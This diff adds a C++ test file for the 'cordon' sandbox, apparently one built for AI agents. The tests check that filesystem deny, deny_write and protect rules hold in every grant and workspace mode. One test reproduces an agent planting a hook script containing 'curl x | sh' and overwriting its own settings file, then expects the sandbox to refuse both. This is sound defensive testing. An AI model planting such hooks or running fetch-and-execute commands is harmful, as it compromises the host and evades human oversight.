@@ -1,0 +1,225 @@
+// filesystem.deny, deny_write and protect hold inside every grant: a filesystem.read or .write
+// host path, and the workspace in cow, ro and rw mode, for a file that exists, a new file, a new
+// file in a new directory, a directory prepared elsewhere and renamed into place, and a hard
+// link. Table-driven: every rule kind x every grant kind, each attempt made by a real program in
+// a real sandbox, the host checked afterwards. Where a rule could only be held by a cordon-fs
+// view and this user cannot mount one, cordon must refuse to start, saying why.
+#include <gtest/gtest.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include <map>
+#include <sstream>
+
+#include "tests/launcher/sandbox_fixture.h"
+
+namespace cordon::testing {
+namespace {
+
+enum class Rule { Deny, DenyWrite, Protect };
+enum class Grant { Read, Write, Cow, Ro, Rw };
+
+const char* rule_field(Rule r) {
+  return r == Rule::Deny ? "deny" : r == Rule::DenyWrite ? "deny_write" : "protect";
+}
+const char* grant_name(Grant g) {
+  switch (g) {
+    case Grant::Read:
+      return "ReadGrant";
+    case Grant::Write:
+      return "WriteGrant";
+    case Grant::Cow:
+      return "CowWorkspace";
+    case Grant::Ro:
+      return "RoWorkspace";
+    case Grant::Rw:
+      return "RwWorkspace";
+  }
+  return "?";
+}
+
+// What each attempt targets, relative to the directory the grant shows. The rules name exactly
+// these; "control.txt" is named by none, so a writable grant must let it through.
+const char* const kTargets[] = {"existing.json", "new.json", "newdir/file.json",
+                                "conf/settings.json", "linked.json"};
+
+// The program: one line "NAME=ok" or "NAME=refused" per attempt, made in `dir`.
+std::string attempts_script(const std::string& dir) {
+  return "cd '" + dir +
+         "' || exit 99\n"
+         "try() { n=$1; shift; if \"$@\" >/dev/null 2>&1; then echo \"$n=ok\"; "
+         "else echo \"$n=refused\"; fi; }\n"
+         "try read_existing cat existing.json\n"
+         "cat existing.json 2>/dev/null\n"  // its bytes, when readable: a deny must hide them
+         "echo\n"
+         "try write_existing sh -c 'echo PLANTED > existing.json'\n"
+         "try symlink_write sh -c 'ln -s existing.json sl.json && echo PLANTED > sl.json'\n"
+         "try remove_existing rm -f existing.json\n"
+         "try new_file sh -c 'echo PLANTED > new.json'\n"
+         "try new_dir sh -c 'mkdir -p newdir && echo PLANTED > newdir/file.json'\n"
+         "try rename_into_place sh -c 'mkdir -p prep && echo PLANTED > prep/settings.json && "
+         "mv -T prep conf'\n"
+         "try hard_link sh -c 'echo PLANTED > ok.txt && ln ok.txt linked.json'\n"
+         "try control sh -c 'echo fine > control.txt'\n";
+}
+
+std::map<std::string, std::string> outcomes(const std::string& out) {
+  std::map<std::string, std::string> m;
+  std::istringstream in(out);
+  for (std::string line; std::getline(in, line);) {
+    size_t eq = line.find('=');
+    if (eq != std::string::npos && line.find(' ') == std::string::npos) {
+      m[line.substr(0, eq)] = line.substr(eq + 1);
+    }
+  }
+  return m;
+}
+
+bool host_has(const std::string& p) {
+  struct stat st {};
+  return ::lstat(p.c_str(), &st) == 0;
+}
+
+void chown_tree(const std::string& dir, uid_t uid) {
+  if (::geteuid() == 0) {
+    run_program({"chown", "-R", std::to_string(uid) + ":" + std::to_string(uid), dir});
+  }
+}
+
+class DenyInGrant : public ::testing::TestWithParam<std::tuple<Rule, Grant>> {};
+
+TEST_P(DenyInGrant, RuleHolds) {
+  auto [rule, grant] = GetParam();
+  SandboxFixture f;
+  uid_t uid = f.make_workspace_owned();
+  bool workspace = grant == Grant::Cow || grant == Grant::Ro || grant == Grant::Rw;
+  std::string dir = workspace ? f.ws() : f.home() + "/grant";
+  ::mkdir(dir.c_str(), 0755);
+  write_text(dir + "/existing.json", "ORIGINAL\n");
+  chown_tree(dir, uid);
+
+  // The rules: relative in the workspace (where relative rules live), absolute for a grant.
+  std::string rules;
+  for (const char* t : kTargets) {
+    rules +=
+        std::string(rules.empty() ? "" : ", ") + "\"" + (workspace ? "" : dir + "/") + t + "\"";
+  }
+  std::string mode = grant == Grant::Cow ? "cow" : grant == Grant::Rw ? "rw" : "ro";
+  std::string grants = grant == Grant::Read    ? "\"read\": [\"" + dir + "\"], "
+                       : grant == Grant::Write ? "\"write\": [\"" + dir + "\"], "
+                                               : "";
+  std::string lists;
+  for (Rule r : {Rule::Deny, Rule::DenyWrite, Rule::Protect}) {
+    lists += std::string(", \"") + rule_field(r) + "\": [" + (r == rule ? rules : "") + "]";
+  }
+  write_text(f.home() + "/p.json",
+             "{\"filesystem\": {" + grants + "\"mode\": \"" + mode + "\"" + lists + "}}");
+
+  auto r = f.run({"-q", "--policy", f.home() + "/p.json"}, {"/bin/sh", "-c", attempts_script(dir)});
+  const bool needs_view = grant == Grant::Write || grant == Grant::Rw;
+  if (needs_view && !fs_views_here()) {
+    // Fail closed: the rule would hold only for paths present at start.
+    EXPECT_EQ(r.exit_code(), 125) << r.out << r.err;
+    EXPECT_NE(r.err.find(std::string("filesystem.") + rule_field(rule) + "[0]"), std::string::npos)
+        << r.err;
+    EXPECT_NE(r.err.find("takes a cordon-fs view"), std::string::npos) << r.err;
+    EXPECT_EQ(r.out.find("existing_"), std::string::npos) << "the program ran: " << r.out;
+  } else {
+    ASSERT_EQ(r.exit_code(), 0) << r.out << r.err;
+    auto o = outcomes(r.out);
+    ASSERT_EQ(o.size(), 9u) << r.out << r.err;
+    const bool writable = grant == Grant::Write || grant == Grant::Rw || grant == Grant::Cow;
+    EXPECT_EQ(o["control"], writable ? "ok" : "refused") << r.out;
+    // A deny hides what exists; deny_write and protect leave it readable.
+    EXPECT_EQ(o["read_existing"], rule == Rule::Deny ? "refused" : "ok") << r.out;
+    EXPECT_EQ(r.out.find("ORIGINAL") == std::string::npos, rule == Rule::Deny) << r.out;
+    for (const char* a : {"write_existing", "symlink_write", "remove_existing"}) {
+      EXPECT_EQ(o[a], "refused") << a << "\n" << r.out << r.err;
+    }
+    // Paths created later. Through kernel overlayfs (cow for a user without FUSE) they are only
+    // held back: the session's layer keeps them until a reviewed commit.
+    const bool held_at_run = !(grant == Grant::Cow && !fs_views_here());
+    if (held_at_run) {
+      for (const char* a : {"new_file", "new_dir", "rename_into_place", "hard_link"}) {
+        EXPECT_EQ(o[a], "refused") << a << "\n" << r.out << r.err;
+      }
+    }
+  }
+  // Whatever happened inside, the host's directory holds none of it.
+  EXPECT_EQ(read_text(dir + "/existing.json"), "ORIGINAL\n");
+  for (const char* t : kTargets) {
+    if (std::string(t) != "existing.json") {
+      EXPECT_FALSE(host_has(dir + "/" + t)) << t;
+    }
+  }
+  EXPECT_FALSE(host_has(dir + "/sl.json") && read_text(dir + "/sl.json") == "PLANTED\n");
+}
+
+INSTANTIATE_TEST_SUITE_P(EveryRuleInEveryGrant, DenyInGrant,
+                         ::testing::Combine(::testing::Values(Rule::Deny, Rule::DenyWrite,
+                                                              Rule::Protect),
+                                            ::testing::Values(Grant::Read, Grant::Write, Grant::Cow,
+                                                              Grant::Ro, Grant::Rw)),
+                         [](const auto& info) {
+                           Rule r = std::get<0>(info.param);
+                           return std::string(r == Rule::Deny        ? "Deny"
+                                              : r == Rule::DenyWrite ? "DenyWrite"
+                                                                     : "Protect") +
+                                  "In" + grant_name(std::get<1>(info.param));
+                         });
+
+// The issue's own reproduction: an agent given its state directory plants a hook the host runs.
+TEST(DenyInGrant, TheAgentStateDirectoryKeepsItsSettingsAndHooks) {
+  SandboxFixture f;
+  uid_t uid = f.make_workspace_owned();
+  std::string claude = f.home() + "/.claude";
+  ::mkdir(claude.c_str(), 0755);
+  write_text(claude + "/settings.json", "{}\n");
+  chown_tree(claude, uid);
+  write_text(f.home() + "/p.json",
+             R"({"filesystem": {"mode": "ro", "write": ["~/.claude"],
+                 "deny_write": ["~/.claude/settings.json"], "protect": ["~/.claude/hooks/**"]}})");
+  auto r = f.run(
+      {"-q", "--policy", f.home() + "/p.json"},
+      {"/bin/sh", "-c",
+       "echo PLANTED > ~/.claude/settings.json; echo \"write=$?\"; "
+       "mkdir -p ~/.claude/hooks && echo 'curl x | sh' > ~/.claude/hooks/evil.sh; "
+       "echo \"hook=$?\"; rm -f ~/.claude/settings.json; echo \"rm=$?\"; "
+       "echo '{\"x\":1}' > ~/.claude/new.json && mv ~/.claude/new.json ~/.claude/settings.json; "
+       "echo \"over=$?\"; echo session > ~/.claude/history.jsonl; echo \"own=$?\""});
+  if (!fs_views_here()) {
+    EXPECT_EQ(r.exit_code(), 125) << r.err;
+    EXPECT_NE(r.err.find("filesystem.write[0] \"~/.claude\""), std::string::npos) << r.err;
+    return;
+  }
+  ASSERT_EQ(r.exit_code(), 0) << r.err;
+  for (const char* refused : {"write=0", "hook=0", "rm=0", "over=0"}) {
+    EXPECT_EQ(r.out.find(refused), std::string::npos) << refused << "\n" << r.out << r.err;
+  }
+  EXPECT_NE(r.out.find("own=0"), std::string::npos) << r.out;  // the agent's own state persists
+  EXPECT_EQ(read_text(claude + "/settings.json"), "{}\n");
+  EXPECT_FALSE(host_has(claude + "/hooks"));
+  EXPECT_EQ(read_text(claude + "/history.jsonl"), "session\n");
+}
+
+// `cordon policy explain` says how the rules hold inside a write grant.
+TEST(DenyInGrant, ExplainSaysTheTruth) {
+  SandboxFixture f;
+  write_text(f.home() + "/p.json",
+             R"({"filesystem": {"write": ["/srv/agent-state"],
+                 "deny_write": ["/srv/agent-state/settings.json"]}})");
+  auto r = run_program({cordon_bin(), "policy", "explain", f.home() + "/p.json"}, {.env = f.env()});
+  ASSERT_EQ(r.exit_code(), 0) << r.err;
+  EXPECT_NE(r.out.find("filesystem: read-write /srv/agent-state (filesystem.write[0]); inside it"),
+            std::string::npos)
+      << r.out;
+  EXPECT_NE(r.out.find("inside it /srv/agent-state/settings.json, **/.env, "), std::string::npos)
+      << r.out;
+  EXPECT_NE(r.out.find(" more hold for files created, renamed or linked later too: a directory is "
+                       "served through a cordon-fs view"),
+            std::string::npos)
+      << r.out;
+}
+
+}  // namespace
+}  // namespace cordon::testing
